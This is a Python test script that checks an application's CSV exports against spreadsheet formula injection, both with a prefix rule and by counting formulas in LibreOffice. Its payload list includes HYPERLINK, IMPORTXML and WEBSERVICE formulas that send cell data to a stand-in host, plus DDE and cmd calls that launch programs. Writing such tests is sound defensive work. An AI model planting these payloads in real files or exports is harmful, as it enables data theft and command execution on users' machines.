#!/usr/bin/python3
"""Texts that a spreadsheet takes for formulas, through the real program into every export, and out again.

formulas.py [--libreoffice] [--bite]

Each cell and heading of each export is measured by a rule of its own; with --libreoffice each file is also
opened by LibreOffice and the formulas that it sees are counted: 0. --bite shows that both find an unprotected file.
"""
import csv
import io
import os
import re
import shutil
import subprocess
import sys
import tempfile

from world import Visitor, bring, start

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "|", "＝", "＋", "－", "＠", " =", "\u00a0=", "=\t", "\n="]
BODIES = ["1+1", "SUM(A1:A9)", "HYPERLINK(\"https://evil.invalid?\"&A1,\"x\")", "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "-1+1",
          "IMPORTXML(CONCAT(\"https://evil.invalid/\",A1),\"//a\")", "WEBSERVICE(\"https://evil.invalid\")", "cmd|'/C x'!'A1'", "2", "\"x\"&\"y\"", "1;=1", "1,=1", "TRUE",
          "@SUM(1)", "+-+1", "{=1}", "rundll32('x')!A", "'=1", "1\n=2", "1\"\n=2"]
EXPORTS = ["/en/organisations.csv", "/ar/organisations.csv", "/en/staff/organisations.csv", "/en/staff/reports.csv", "/en/reports.csv", "/en/region/organisations.csv"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "＝", "＋", "－", "＠")


def make_cells():
    return [start_ + body for body in BODIES for start_ in STARTS]


def make_file(cells):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["key", "name", "country", "place", "summary", "contact", "representative_1_name", "representative_1_email", "representative_1_prime", "=HYPERLINK(\"x\")", "＋1", "@a"])
    for i, cell in enumerate(cells):
        other = cells[(i * 7 + 3) % len(cells)]
        # Every sixth has a country that is none: it comes back in the list of lines to mend.
        country = "=1+1" if i % 6 == 0 else "CH"
        writer.writerow([f"=K{i}", f"{cell} {i}", country, other.replace("\n", " "), cell, "", other.replace("\n", " ")[:60], f"f{i}@example.org", "yes", cell, other, cell])
    return out.getvalue()


def find_formulas(text):
    """Cells that a spreadsheet could take for formulas, by the rule alone (also behind blanks)."""
    found = []
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
        found += [cell for cell in row if cell.startswith(FORMULA_STARTS) or cell.lstrip(" \t\r\n").startswith(FORMULA_STARTS)]
    return found


def count_in_libreoffice(path, folder):
    """The formulas that LibreOffice sees: the file is read with formulas allowed, and written as flat XML."""
    # Comma, quote, UTF-8, from line 1, no column formats, English; formulas are evaluated.
    options = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", f"--infilter={options}", "--convert-to", "fods", "--outdir", folder, path],
                   check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=240)
    name = os.path.join(folder, os.path.basename(path).rsplit(".", 1)[0] + ".fods")
    with open(name, encoding="utf-8") as file:
        text = file.read()
    return len(re.findall(r"table:formula=", text)), text.count("<table:table-row")


def read_exports(server, folder):
    staff = Visitor(server, server.links("staff")[0])
    leader = Visitor(server, server.links("regional_leader")[0])
    cells = make_cells()
    path = bring(staff, make_file(cells))
    files = {}
    for address in [*EXPORTS, path + "/lines.csv"]:
        status, _, text = (leader if "/region/" in address else staff).ask(address)
        assert status == 200, f"{address}: {status}"
        files[os.path.join(folder, address.strip("/").replace("/", "-"))] = text
    for name, text in files.items():
        with open(name, "w", encoding="utf-8", newline="") as file:
            file.write(text)
    return files, cells


def check(folder, has_libreoffice):
    server = start(folder, "sqlite", {})
    try:
        files, cells = read_exports(server, folder)
    finally:
        server.stop()
    bad = 0
    written = sum(text.count("'" + start_) for text in files.values() for start_ in "=+-@＝＋－＠")
    for name, text in files.items():
        found = find_formulas(text)
        line = f"{os.path.basename(name)}: {text.count(chr(10))} lines, {len(found)} cells that could be formulas"
        if has_libreoffice:
            count, rows = count_in_libreoffice(name, folder)
            line += f", {count} formulas in LibreOffice ({rows} rows)"
            bad += count
        print(line, *found[:5], flush=True)
        bad += len(found)
    print(f"{len(cells)} cells went in, {written} protected ones came out, {bad} formulas")
    return bad == 0 and written >= 300


def bite(folder, has_libreoffice):
    """The same cells without protection: the rule must see them, and LibreOffice compute them."""
    path = os.path.join(folder, "unprotected.csv")
    with open(path, "w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([["=1+1", "＝1+1"], *([cell] for cell in make_cells())])
    with open(path, encoding="utf-8", newline="") as file:
        found = len(find_formulas(file.read()))
    print(f"the rule sees {found} formulas in an unprotected file")
    if not has_libreoffice:
        return found >= 300
    count, _ = count_in_libreoffice(path, folder)
    print(f"LibreOffice sees {count}")
    return found >= 300 and count > 20


def main():
    folder = tempfile.mkdtemp(prefix="muster-formulas-")
    has_libreoffice = "--libreoffice" in sys.argv
    if has_libreoffice and not shutil.which("soffice"):
        sys.exit("formulas.py: LibreOffice is missing; run bin/setup --bench.")
    try:
        is_good = (bite if "--bite" in sys.argv else check)(folder, has_libreoffice)
    finally:
        if "MUSTER_TEST_KEEP" not in os.environ:
            shutil.rmtree(folder)
    return 0 if is_good else 1


if __name__ == "__main__":
    sys.exit(main())
